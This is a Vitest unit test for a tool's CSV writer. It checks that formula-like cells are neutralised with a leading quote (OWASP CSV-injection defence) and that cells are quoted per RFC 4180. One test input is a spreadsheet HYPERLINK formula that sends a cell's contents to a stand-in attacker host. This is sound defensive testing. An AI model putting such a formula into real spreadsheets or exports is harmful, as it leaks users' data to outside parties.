/** Issue 23: the one CSV writer (`ops list --csv`, `audit duplicates --csv`): no formula runs in a spreadsheet. */
import { describe, expect, it } from 'vitest';
import { csvCell, csvRow } from '../../commands/support/csv.js';

describe('csv', () => {
  it('prefixes a text cell that a spreadsheet would evaluate with a single quote (OWASP)', () => {
    expect(csvCell('=HYPERLINK("https://evil.example/?d="&A1,"refund")')).toBe(
      '"\'=HYPERLINK(""https://evil.example/?d=""&A1,""refund"")"',
    );
    expect(['+1', '-2+3', '@SUM(A1)', '\tx', '\rx'].map(csvCell)).toEqual([
      "'+1",
      "'-2+3",
      "'@SUM(A1)",
      "'\tx",
      `"'\rx"`,
    ]);
    // A number is never a formula; a text that merely contains one of the signs is left alone.
    expect([csvCell(-5), csvCell(1999), csvCell('a=b'), csvCell('order-1')]).toEqual(['-5', '1999', 'a=b', 'order-1']);
  });

  it('quotes a cell holding a comma, a quote or a line break, doubling quotes (RFC 4180)', () => {
    expect(csvRow(['a,b', 'say "hi"', 'l1\nl2', null, undefined, 'plain'])).toBe('"a,b","say ""hi""","l1\nl2",,,plain');
  });
});
